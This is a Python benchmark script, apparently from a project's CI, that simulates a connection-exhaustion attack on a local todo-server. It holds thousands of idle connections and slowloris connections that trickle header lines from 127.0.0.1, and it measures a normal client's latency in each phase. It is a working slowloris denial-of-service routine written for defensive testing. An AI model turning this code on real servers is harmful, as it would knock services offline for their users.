#!/usr/bin/env python3
"""Connection-exhaustion attack on todo-server (issue 17 item 1), for .ci/bench/attack.sh.

usage: attack.py PORT APP_KEY [IDLE] [SLOWLORIS] [REQUESTS]

A normal client (source address 127.0.0.2, so the server sees another peer) sends REQUESTS
authenticated GETs, each on a new connection, first with no attack, then while an attacker on
127.0.0.1 holds IDLE idle connections (opened and never used; reopened when the server closes them)
and SLOWLORIS connections that send a request header one line per second and never finish it;
then once more from the attacker's own address. Prints the client's latency p50/p99/max and its
failures for each phase, and what the attacker held. Asserts nothing: it prints figures.
"""
import selectors, socket, sys, threading, time

port, key = int(sys.argv[1]), sys.argv[2]
idle_target = int(sys.argv[3]) if len(sys.argv) > 3 else 2000
slow_target = int(sys.argv[4]) if len(sys.argv) > 4 else 200
requests = int(sys.argv[5]) if len(sys.argv) > 5 else 400
CLIENT_ADDRESS, ATTACK_ADDRESS = "127.0.0.2", "127.0.0.1"
REQUEST = ("GET /tables/todoitem?$top=1 HTTP/1.1\r\nHost: 127.0.0.1\r\nZUMO-API-VERSION: 2.0.0\r\n"
           "X-ZUMO-APPLICATION: %s\r\nConnection: close\r\n\r\n" % key).encode()


def one_request(address):
    """(seconds, status or an error name) of one GET on a new connection from `address`."""
    start = time.perf_counter()
    try:
        s = socket.socket()
        s.settimeout(10)
        s.bind((address, 0))
        s.connect(("127.0.0.1", port))
        s.sendall(REQUEST)
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        s.close()
        status = data.split(b" ", 2)[1].decode() if data.startswith(b"HTTP/1.1 ") else "no answer"
    except socket.timeout:
        status = "timeout"
    except OSError as e:
        status = type(e).__name__
    return time.perf_counter() - start, status


def client_phase(name, address=CLIENT_ADDRESS):
    times, failures = [], {}
    for _ in range(requests):
        elapsed, status = one_request(address)
        times.append(elapsed)
        if status != "200":
            failures[status] = failures.get(status, 0) + 1
        time.sleep(0.01)
    times.sort()
    pick = lambda q: times[min(len(times) - 1, int(q * len(times)))] * 1000
    ok = requests - sum(failures.values())
    print("%-40s %4d requests  200: %4d  p50 %8.2f ms  p99 %8.2f ms  max %8.2f ms  failures %s"
          % (name, requests, ok, pick(0.5), pick(0.99), times[-1] * 1000, failures or "none"), flush=True)


class Attacker(threading.Thread):
    """Keeps IDLE idle and SLOWLORIS trickling connections open from 127.0.0.1."""

    def __init__(self):
        super().__init__(daemon=True)
        self.selector = selectors.DefaultSelector()
        self.stop = False
        self.idle, self.slow = set(), {}
        self.opened = self.closed_by_server = 0
        self.peak_idle = self.peak_slow = 0

    def open(self, kind):
        s = socket.socket()
        s.setblocking(False)
        s.bind((ATTACK_ADDRESS, 0))
        try:
            s.connect(("127.0.0.1", port))
        except BlockingIOError:
            pass
        except OSError:
            s.close()
            return
        self.opened += 1
        self.selector.register(s, selectors.EVENT_READ, kind)
        if kind == "idle":
            self.idle.add(s)
        else:
            self.slow[s] = 0

    def drop(self, s):
        self.selector.unregister(s)
        self.idle.discard(s)
        self.slow.pop(s, None)
        s.close()
        self.closed_by_server += 1

    def run(self):
        next_trickle = time.monotonic()
        while not self.stop:
            # Refill both kinds, a few hundred at a time: the server may close them as fast.
            for _ in range(200):
                if len(self.idle) < idle_target:
                    self.open("idle")
                if len(self.slow) < slow_target:
                    self.open("slow")
            self.peak_idle = max(self.peak_idle, len(self.idle))
            self.peak_slow = max(self.peak_slow, len(self.slow))
            for event, _ in self.selector.select(timeout=0.05):
                s = event.fileobj
                try:
                    if not s.recv(65536):
                        self.drop(s)
                except BlockingIOError:
                    pass
                except OSError:
                    self.drop(s)
            if time.monotonic() >= next_trickle:  # one more header line per slow connection per second
                next_trickle = time.monotonic() + 1
                for s in list(self.slow):
                    line = b"GET /tables/todoitem HTTP/1.1\r\nHost: x\r\n" if self.slow[s] == 0 else b"X-Slow-%d: 1\r\n" % self.slow[s]
                    try:
                        s.send(line)
                        self.slow[s] += 1
                    except (BlockingIOError, OSError):
                        pass


def main():
    print("todo-server on 127.0.0.1:%d; normal client from %s, attacker from %s" % (port, CLIENT_ADDRESS, ATTACK_ADDRESS))
    client_phase("no attack")
    attacker = Attacker()
    attacker.start()
    time.sleep(3)  # let the attacker open its connections
    client_phase("%d idle + %d slowloris" % (idle_target, slow_target))
    # Not protected by the per-address bound, which is the attacker's bound too: for information.
    client_phase("same, client on the attacker's address", ATTACK_ADDRESS)
    attacker.stop = True
    print("attacker: held at most %d idle and %d slowloris connections at once; opened %d, closed by the server %d"
          % (attacker.peak_idle, attacker.peak_slow, attacker.opened, attacker.closed_by_server))


main()
